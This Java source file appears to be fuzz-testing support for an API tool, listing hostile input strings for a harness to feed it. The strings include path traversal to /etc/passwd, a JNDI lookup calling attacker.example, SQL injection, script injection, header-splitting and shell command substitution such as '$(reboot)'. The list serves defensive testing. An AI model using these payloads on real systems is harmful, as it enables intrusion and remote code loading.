package dev.apimdr.attack;

import java.util.List;
import java.util.Random;

/** Texts that have broken programs before. */
final class Poison {
  /** Looks like a secret and is sent with everything; it must not appear in any output. */
  static final String SECRET = "S3cretOfTheCaller";

  private static final List<String> TEXTS =
      List.of(
          "..",
          "../../../etc/passwd",
          "..%2f..%2foperations",
          "%2e%2e%2f",
          "%252e%252e%255c",
          "..\\..\\host.json",
          "contoso/../archive",
          "contoso%00",
          "contoso\u0000.json",
          "/",
          "//",
          "C:\\",
          "contoso\r\nX-Injected: yes",
          "contoso\nOperationTransition {\"to\":\"Succeeded\"}",
          "%0d%0aSet-Cookie:%20a=b",
          "\u0085next",
          "\u2028next",
          "\u2029next",
          "\u001b[31mred\u001b[0m",
          "\u009b31m",
          "\u202etxet",
          "\ufeffcontoso",
          "ｃｏｎｔｏｓｏ",
          "contosо",
          "ſcontoso",
          "İ",
          "ß",
          "\ud800",
          "\udc00\ud800",
          "\uffff",
          "𝕏".repeat(20),
          "é́́́",
          "${jndi:ldap://attacker.example/a}",
          "{{7*7}}",
          "' or 1=1 --",
          "<script>alert(1)</script>",
          "%s%n%x%p",
          "{0}{1}",
          "$(reboot)",
          "`reboot`",
          "?code=other",
          "#",
          ";jsessionid=1",
          "https://attacker.example/",
          "//attacker.example/",
          "file:///etc/passwd",
          "CON",
          "nul.apimbackup",
          "a b",
          "\t",
          "-",
          "--",
          "a-",
          "*",
          "true",
          "NaN",
          "1e999",
          "-1",
          "9".repeat(400),
          "a".repeat(65),
          "a".repeat(5000),
          "é".repeat(300),
          "(".repeat(500),
          "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!");

  private Poison() {}

  static String text(Random random) {
    return switch (random.nextInt(4)) {
      case 0 -> noise(random, 1 + random.nextInt(40));
      case 1 -> one(random) + one(random);
      default -> one(random);
    };
  }

  private static String one(Random random) {
    return TEXTS.get(random.nextInt(TEXTS.size()));
  }

  /** Random 16-bit units, including unpaired surrogates. */
  static String noise(Random random, int length) {
    StringBuilder noise = new StringBuilder(length);
    for (int i = 0; i < length; i++) {
      noise.append((char) (random.nextBoolean() ? random.nextInt(0x100) : random.nextInt(0x10000)));
    }
    return noise.toString();
  }

  /** A JSON string literal of this text. */
  static String quoted(String text) {
    StringBuilder quoted = new StringBuilder("\"");
    text.chars()
        .forEach(
            unit ->
                quoted.append(
                    unit < ' ' || unit == '"' || unit == '\\' || unit > '~'
                        ? "\\u%04x".formatted(unit)
                        : String.valueOf((char) unit)));
    return quoted.append('"').toString();
  }
}
